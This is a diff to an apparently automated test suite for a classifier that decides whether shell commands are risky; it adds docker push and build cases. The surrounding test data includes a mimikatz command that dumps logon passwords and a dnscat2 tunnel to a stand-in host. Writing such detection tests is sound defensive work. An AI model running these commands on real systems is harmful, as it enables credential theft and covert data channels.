@@ -5898,6 +5898,9 @@ describe('the next stop, on the thirteen held out read after the last stop: what
     // A host's own address in its network, given to an address option, is assigned, not reached.
     ['./nebula-cert sign -name "laptop" -ip "192.168.100.2/24"', false],
     ['./scan -ip 10.0.0.0/24', true, "another machine's address"],
+    // A task named for an image's push.
+    ['task docker:push', true, 'publishing'],
+    ['npm run docker:build', false],
     // A Windows program run from the current directory (`.\name`, which the shell reads as `.name`).
     ['.\\mimikatz "privilege::debug" "sekurlsa::logonpasswords" exit', true, 'passwords'],
     ['.\\dnscat2.exe tunnel.example.com --secret KEY', true, 'tunnel'],
